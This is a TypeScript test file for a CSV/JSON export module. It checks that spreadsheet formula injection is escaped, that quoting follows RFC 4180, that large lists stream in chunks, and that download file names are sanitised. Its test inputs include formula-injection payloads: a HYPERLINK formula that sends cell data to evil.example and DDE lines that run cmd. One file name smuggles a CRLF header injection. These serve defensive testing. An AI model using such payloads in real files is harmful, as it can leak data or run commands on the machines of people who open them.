import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { csvCell, csvRecord } from "@/lib/model/csv";
import { exportFileName, exportResponse, streamExport, type ExportColumn } from "./table";

/** Names an attacker can give an identity, a namespace or a role assignment description. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  'quote " and, comma',
  "line\r\nbreak",
  "plain-name",
];

interface Row {
  name: string;
  roles: string[];
  count: number;
}
const columns: ExportColumn<Row>[] = [
  { key: "name", header: "Name", value: (r) => r.name },
  { key: "roles", header: "Roles", value: (r) => r.roles },
  { key: "count", header: "Count", value: (r) => r.count },
];

async function text(stream: ReadableStream<Uint8Array>): Promise<string> {
  return new Response(stream).text();
}

describe("csvCell", () => {
  it("prefixes an apostrophe to a cell a spreadsheet would run as a formula, and quotes it", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvCell('=A1&"x"')).toBe(`"'=A1&""x"""`);
  });

  it("quotes per RFC 4180 only when a cell holds a comma, a quote, CR or LF", () => {
    expect(csvCell("aks-prod")).toBe("aks-prod");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvRecord(["a", "b"])).toBe("a,b\r\n");
  });
});

describe("streamExport", () => {
  const rows: Row[] = HOSTILE.map((name, i) => ({ name, roles: [name, "Reader"], count: i }));

  it("writes CSV that an RFC 4180 parser reads back cell for cell, with no cell starting as a formula", async () => {
    const csv = await text(streamExport(rows, columns, "csv"));
    const records = parse(csv, { relax_column_count: false }) as string[][];
    expect(records[0]).toEqual(["Name", "Roles", "Count"]);
    expect(records).toHaveLength(HOSTILE.length + 1);
    for (const [i, name] of HOSTILE.entries()) {
      const [cellName, cellRoles, cellCount] = records[i + 1]!;
      expect(cellName).toBe(/^[=+\-@\t\r]/.test(name) ? `'${name}` : name);
      expect(cellRoles!.endsWith("; Reader")).toBe(true);
      expect(cellCount).toBe(String(i));
    }
    for (const record of records) for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it("writes JSON with the raw values (lists as arrays, numbers as numbers) after the meta fields", async () => {
    const json = JSON.parse(await text(streamExport(rows, columns, "json", { list: "test", total: rows.length })));
    expect(json.list).toBe("test");
    expect(json.total).toBe(HOSTILE.length);
    expect(json.items.map((r: Row) => r.name)).toEqual(HOSTILE);
    expect(json.items[2]).toEqual({ name: "-2+3", roles: ["-2+3", "Reader"], count: 2 });
  });

  it("writes an empty list as a header line or an empty items array", async () => {
    expect(await text(streamExport([], columns, "csv"))).toBe("Name,Roles,Count\r\n");
    expect(JSON.parse(await text(streamExport([], columns, "json")))).toEqual({ items: [] });
  });

  it("streams a large list in several chunks, pulling rows only as the reader asks", async () => {
    let produced = 0;
    function* many(): Generator<Row> {
      for (let i = 0; i < 5000; i += 1) {
        produced += 1;
        yield { name: `id-${i}`, roles: [], count: i };
      }
    }
    const reader = streamExport(many(), columns, "csv").getReader();
    const first = await reader.read();
    expect(first.done).toBe(false);
    expect(produced).toBeLessThan(5000);
    let chunks = 1;
    let lines = new TextDecoder().decode(first.value).split("\r\n").length - 1;
    for (let next = await reader.read(); !next.done; next = await reader.read()) {
      chunks += 1;
      lines += new TextDecoder().decode(next.value).split("\r\n").length - 1;
    }
    expect(chunks).toBeGreaterThan(5);
    expect(lines).toBe(5001);
  });
});

describe("exportResponse", () => {
  it("answers a never-cached, never-sniffed attachment whose file name cannot break the header", async () => {
    const res = exportResponse([], columns, "csv", 'scan "7"\r\nset-cookie: x');
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="scan-7-set-cookie-x.csv"');
    expect(res.headers.get("cache-control")).toBe("no-store");
    expect(res.headers.get("x-content-type-options")).toBe("nosniff");
    expect(exportFileName("", "json")).toBe("export.json");
  });
});
